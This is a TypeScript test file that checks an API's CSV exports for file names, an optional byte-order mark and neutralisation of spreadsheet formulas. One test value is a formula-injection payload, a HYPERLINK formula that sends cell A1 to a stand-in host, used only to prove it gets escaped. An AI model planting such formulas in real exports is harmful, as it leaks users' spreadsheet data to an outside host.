// CSV answers of the API on both engines: every CSV route names a file in Content-Disposition, bom=true adds a
// UTF-8 byte-order mark, cells that would run as spreadsheet formulas are neutralised.
import assert from 'node:assert/strict';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { buildApp } from '../../src/api/app.ts';
import { importStatistics } from '../../src/asylum/import/load.ts';
import { loadConfig } from '../../src/config/config.ts';
import { loadDirectory } from '../../src/courts/directory/load.ts';
import { syncCourts } from '../../src/courts/directory/sync.ts';
import type { Database } from '../../src/db/database.ts';
import { loadKnowledgeBase } from '../../src/guidance/load.ts';
import { present } from '../../src/shared/present.ts';
import { ASSETS } from '../helpers/asylum.ts';
import { ENGINES } from '../helpers/engines.ts';

const directory = loadDirectory();
const kb = loadKnowledgeBase();
const CSV_ROUTES: Array<[string, string]> = [
  ['/api/v1/cases?format=csv', 'cases.csv'],
  ['/api/v1/stats/prosecutions?by=year&format=csv', 'prosecutions.csv'],
  ['/api/v1/stats/series?measure=first_time&dest=DEU&from=2022&to=2022&source=eurostat&format=csv', 'series.csv'],
  ['/api/v1/courts?format=csv', 'courts.csv'],
];

for (const engine of ENGINES) {
  describe(`CSV answers on ${engine.name}`, () => {
    let db: Database;
    let drop: () => Promise<void>;
    let app: FastifyInstance;
    before(async () => {
      ({ db, drop } = await engine.create());
      await syncCourts(db, directory);
      // A release label as an operator might type it, or a hostile file might state it.
      await importStatistics(db, path.join(ASSETS, 'migr_asyappctza_RU_bulk-2024-01-18_tidy.csv.gz'), {
        release: '=HYPERLINK("http://example.invalid/?"&A1,"open")',
      });
      app = await buildApp({ config: loadConfig({ OTKAZ_DATA_DIR: '/tmp/otkaz-api-unused', OTKAZ_RATE_LIMIT: '0' }), db, directory, kb });
    });
    after(async () => {
      await app.close();
      await drop();
    });

    it('every CSV route is text/csv with a file name in Content-Disposition', async () => {
      for (const [url, file] of CSV_ROUTES) {
        const res = await app.inject({ url });
        assert.equal(res.statusCode, 200, `${url}: ${res.body}`);
        assert.match(String(res.headers['content-type']), /^text\/csv; charset=utf-8/, url);
        assert.equal(res.headers['content-disposition'], `attachment; filename="${file}"`, url);
        assert.ok(!res.body.startsWith('\uFEFF'), `${url}: no BOM unless asked`);
      }
    });

    it('bom=true starts every CSV route with a UTF-8 byte-order mark', async () => {
      for (const [url] of CSV_ROUTES) {
        const res = await app.inject({ url: `${url}&bom=true` });
        assert.equal(res.statusCode, 200, `${url}: ${res.body}`);
        assert.equal(res.rawPayload.subarray(0, 3).toString('hex'), 'efbbbf', url);
      }
    });

    it('a cell that would run as a formula reaches the spreadsheet as text', async () => {
      const res = await app.inject({ url: present(CSV_ROUTES[2], 'the third CSV route')[0] });
      const [header, row] = parse(res.body) as string[][];
      assert.ok(header && row, res.body);
      const release = row[header.indexOf('release')] ?? '';
      assert.ok(release.startsWith(`'=HYPERLINK(`), release);
      assert.equal(row[header.indexOf('value')], '2850', 'numbers stay numbers');
    });
  });
}
